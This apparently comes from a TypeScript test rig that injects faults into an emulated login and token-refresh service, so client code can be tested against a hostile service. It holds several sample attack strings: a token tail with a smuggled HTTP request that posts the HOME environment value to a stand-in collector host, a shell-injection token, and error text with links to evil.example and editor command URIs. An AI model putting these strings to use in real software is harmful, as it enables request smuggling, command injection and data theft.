// The faults the tests' rig plays in front of the service, and which one the next request meets: a `count`
// limits a fault to that many requests per endpoint, after which the endpoint answers normally again.
import type { ServiceEndpoint } from '../../src/emulator/server';

export type FaultEndpoint = ServiceEndpoint;

/**
 * `bodyStatusMismatch` answers HTTP 200 with a body whose `Status` is 401, to model the
 * service's `Status` disagreeing with the HTTP status. `rateLimited` answers 429 with the
 * error envelope and `Retry-After`, as the service's rate limit does, on any endpoint.
 * `linkInError` answers 422 whose `Title` and `Errors` carry markdown links (`command:`, `https:`).
 */
export type FaultMode = 'none' | 'hang' | 'reset' | 'html502' | 'slow' | 'error500' | 'bodyStatusMismatch' | 'rateLimited' | 'linkInError' | AnswerFault;

/**
 * A hostile or broken service that still answers 200 with tokens: `injectedToken` puts a line
 * break and a new request into the access token, `shellToken` a shell command, `expiredToken`
 * issues a token that expired a minute ago, `absurdExp` one whose `exp` is 1e16 (past what a
 * `Date` holds). The refresh token stays a real, rotating one.
 */
export type AnswerFault = 'injectedToken' | 'shellToken' | 'expiredToken' | 'absurdExp';

/** The text `injectedToken` appends to a real token. */
export const INJECTED_TAIL = '\r\n\r\n### stolen\r\nPOST http://collector.invalid/steal?home={{$processEnv HOME}}\r\n';
/** The text `shellToken` appends to a real token. */
export const SHELL_TAIL = "'; echo INJECTED; : '";

export interface EmulatorFaults {
	login?: FaultMode;
	refresh?: FaultMode;
	slowMs?: number;
	/** faults apply to the next N matching requests, then revert to 'none'; omitted = until changed */
	count?: number;
}

export const FAULT_MODES: readonly FaultMode[] = ['none', 'hang', 'reset', 'html502', 'slow', 'error500', 'bodyStatusMismatch', 'rateLimited', 'linkInError', 'injectedToken', 'shellToken', 'expiredToken', 'absurdExp'];
/** The `Retry-After` (seconds) the `rateLimited` fault sends. */
export const FAULT_RETRY_AFTER_SECONDS = 60;
export const DEFAULT_SLOW_MS = 2000;

/** The words `linkInError` puts in a service's error, each inside a markdown link. */
export const LINK_IN_ERROR = { title: '[Open Settings](command:workbench.action.openSettings)', message: 'Read [the fix](https://evil.example/fix) or [run it](command:workbench.action.terminal.new)' };

/** Faults from a control request body, or a message saying what is wrong. */
export function readFaults(body: Record<string, unknown>): EmulatorFaults | string {
	const faults: EmulatorFaults = {};
	for (const endpoint of ['login', 'refresh'] as const) {
		const mode = body[endpoint];
		if (mode === undefined) continue;
		if (!FAULT_MODES.includes(mode as FaultMode)) return `${endpoint} must be one of ${FAULT_MODES.join(', ')}.`;
		faults[endpoint] = mode as FaultMode;
	}
	for (const key of ['slowMs', 'count'] as const) {
		const value = body[key];
		if (value === undefined) continue;
		if (typeof value !== 'number' || !Number.isFinite(value) || value < 0) return `${key} must be a number of at least 0.`;
		faults[key] = value;
	}
	return faults;
}

export interface TakenFault {
	mode: FaultMode;
	slowMs: number;
}

export class FaultState {
	private faults: EmulatorFaults = {};
	private remaining: Record<FaultEndpoint, number> = { login: Infinity, refresh: Infinity };

	constructor(initial: EmulatorFaults = {}) {
		this.set(initial);
	}

	set(faults: EmulatorFaults): void {
		this.faults = { ...faults };
		const count = faults.count === undefined ? Infinity : Math.max(0, Math.floor(faults.count));
		this.remaining = { login: count, refresh: count };
	}

	/** The faults now in force, with spent endpoints shown as 'none'. */
	current(): EmulatorFaults {
		const view: EmulatorFaults = { ...this.faults };
		for (const endpoint of ['login', 'refresh'] as const) {
			if (view[endpoint] !== undefined && this.remaining[endpoint] <= 0) view[endpoint] = 'none';
		}
		return view;
	}

	/** The fault for this request to `endpoint`, counting it against `count`. */
	take(endpoint: FaultEndpoint): TakenFault {
		const slowMs = this.faults.slowMs ?? DEFAULT_SLOW_MS;
		const mode = this.faults[endpoint] ?? 'none';
		if (mode === 'none' || this.remaining[endpoint] <= 0) return { mode: 'none', slowMs };
		this.remaining[endpoint] -= 1;
		return { mode, slowMs };
	}
}
